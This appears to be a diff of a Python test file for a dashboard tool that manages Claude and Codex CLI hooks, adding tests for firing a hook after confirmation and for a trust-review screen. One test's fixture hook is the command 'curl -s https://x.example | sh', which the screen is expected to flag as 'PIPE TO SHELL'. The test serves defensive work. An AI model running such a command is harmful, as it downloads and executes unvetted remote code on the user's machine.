@@ -7,8 +7,8 @@ from __future__ import annotations
 
 from typing import Any
 
+from hookdash.core import with_claude, with_other_hosts
 from hookdash.tui.app import HookdashApp
-from hookdash.tui.hosts import more_snapshots
 from hookdash.tui.widgets.hook_tree import HookTree
 from tests.conftest import Sandbox
 from tests.tui.helpers import select, text_of, tree_lines
@@ -37,8 +37,7 @@ def codex_setup(sandbox: Sandbox) -> None:
 
 def codex_app(sandbox: Sandbox) -> HookdashApp:
     """The dashboard on the configuration its loading thread reads (every host's)."""
-    config = sandbox.load()
-    config.more_hosts = more_snapshots(sandbox.workspace, sandbox.environ)
+    config = with_other_hosts(with_claude(sandbox.load()))
     return HookdashApp(sandbox.env(), configuration=config, watch=False)
 
 
@@ -104,13 +103,45 @@ async def test_space_switches_a_codex_hook_off_and_on_bytes_back(sandbox: Sandbo
         await until(lambda: config.read_bytes() == before)
 
 
-async def test_f_on_a_codex_hook_says_how_to_fire_it(sandbox: Sandbox) -> None:
+async def test_f_fires_a_codex_hook_after_asking(sandbox: Sandbox) -> None:
+    from hookdash.tui.screens.confirm import ConfirmScreen
+    from hookdash.tui.screens.output import OutputScreen
+    from tests.tui.helpers import until
+
     codex_setup(sandbox)
     app = codex_app(sandbox)
     async with app.run_test(size=(120, 36)) as pilot:
         await pilot.pause()
         select(app.screen.query_one(HookTree), "echo codex-guard")
         await pilot.press("f")
+        await until(lambda: isinstance(app.screen, ConfirmScreen))  # modified: Codex skips it
+        await pilot.press("y")
+        await until(lambda: isinstance(app.screen, OutputScreen))
+        text = app.screen.query_one("#output-text").text  # type: ignore[attr-defined]
+    assert "what Codex CLI would do" in text and "Codex CLI would not run it" in text
+    assert "codex-guard" in text
+    runs = (sandbox.state / "runs.jsonl").read_text()
+    assert '"host":"codex"' in runs
+
+
+async def test_t_reviews_codex_hooks_and_trusts_what_it_showed(sandbox: Sandbox) -> None:
+    from hookdash.tui.screens.confirm import ConfirmScreen
+    from tests.tui.helpers import until
+
+    codex_setup(sandbox)
+    app = codex_app(sandbox)
+    async with app.run_test(size=(120, 36)) as pilot:
         await pilot.pause()
-        said = [str(n.message) for n in app._notifications]
-    assert any("hookdash fire --host codex PreToolUse" in m for m in said)
+        await pilot.press("T")
+        await until(lambda: isinstance(app.screen, ConfirmScreen))
+        body = text_of(app.screen.query_one("#confirm-body"), 200)
+        assert "echo codex-guard" in body and "curl -s https://x.example | sh" in body
+        assert "PIPE TO SHELL" in body and "timeout 30 s" in body
+        await pilot.press("y")
+        await until(
+            lambda: (
+                app.config is not None
+                and all(h.trust == "trusted" for o in app.config.more_hosts for h in o.hooks)
+            )
+        )
+    assert "trusted_hash" in (sandbox.home / ".codex" / "config.toml").read_text()
